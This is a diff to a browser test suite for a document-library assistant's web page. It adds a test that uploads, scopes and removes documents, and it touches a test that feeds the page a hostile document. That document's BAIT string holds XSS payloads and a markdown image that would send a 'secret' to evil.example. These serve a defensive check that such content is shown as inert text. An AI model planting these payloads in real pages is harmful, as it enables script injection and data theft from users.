@@ -1,6 +1,7 @@
 """The page as a person meets it: a real browser on the served page, over an assistant that says what it is told."""
 
 import re
+from contextlib import closing
 from dataclasses import replace
 
 import pytest
@@ -12,6 +13,8 @@ from index.passage import Document, Heading
 from index.read import read_file
 from index.sync import Unreadable
 from rag.answer import NOT_SAID
+from rag.assistant import open_assistant
+from rag.settings import Settings
 from tests.browser import PHONE, launched, serving, visiting
 from tests.fake_assistant import FakeAssistant, FakeLibrary, cite, near
 
@@ -310,6 +313,34 @@ def test_an_empty_library_explains_itself(browser, tmp_path):
         expect(visit.page.locator("#chat")).to_contain_text(tmp_path.name)
 
 
+def test_documents_are_added_asked_one_by_one_and_removed(browser, tmp_path):
+    (tmp_path / "first.md").write_text("# First\n\nRefunds take 14 days in Lyon.", encoding="utf-8")
+    with closing(open_assistant(Settings.load(library=tmp_path))) as assistant:
+        assistant.library.sync()
+        with serving(assistant) as address, visiting(browser, address) as visit:
+            page, documents = visit.page, visit.page.locator("#documents")
+            files = [("second.md", b"# Second\n\nRefunds take 30 days in Metz."), ("bad.exe", b"MZ")]
+            payload = [{"name": name, "mimeType": "text/plain", "buffer": content} for name, content in files]
+            page.locator("#files").set_input_files(payload)
+            expect(page.locator("#progress .failed")).to_contain_text("bad.exe: Footnote reads", timeout=30_000)
+            expect(page.locator("#progress .done")).to_have_text("second.md: added")
+            expect(documents).to_contain_text("2 documents")
+            page.get_by_label("Ask First").uncheck()
+            expect(page.locator("#scope")).to_contain_text("Asking 1 of 2: Second")
+            visit.ask("How long do refunds take?")
+            assert "30 days" in visit.answer
+            assert "14 days" not in visit.answer
+            page.get_by_role("button", name="Ask all").click()
+            expect(page.locator("#scope")).not_to_contain_text("Asking")
+            page.on("dialog", lambda dialog: dialog.accept())
+            documents.get_by_text("Second", exact=True).hover()
+            page.get_by_role("button", name="Remove Second").click()
+            expect(documents).to_contain_text("1 document")
+            assert not (tmp_path / "second.md").exists()
+            page.locator("#chat p a[href*='#cite-']").first.click()
+            expect(page.locator("#source")).to_contain_text("no longer in the library")
+
+
 BAIT = (
     '<img src=x onerror="window.PWNED=1"> ${window.PWNED=2} {{value}} <script>window.PWNED=3</script> '
     "![x](http://evil.example/?q=secret) [x](javascript:window.PWNED=4) "
@@ -334,7 +365,7 @@ def test_a_hostile_document_is_shown_as_text_and_runs_nothing(browser, tmp_path)
         expect(page.locator("#source mark")).to_contain_text("<img src=x onerror=")
         page.wait_for_timeout(300)
         assert page.evaluate("window.PWNED") is None
-        assert page.locator("#app :is(form, script, iframe, meta, img, input)").count() == 0
+        assert page.locator("#app :is(form, script, iframe, meta, img, input:not(.pick, #files))").count() == 0
         assert page.locator("#app a:not([href^='#cite-'])").count() == 0
         assert page.locator("#app h1").count() == 1
         assert page.url.startswith(address)
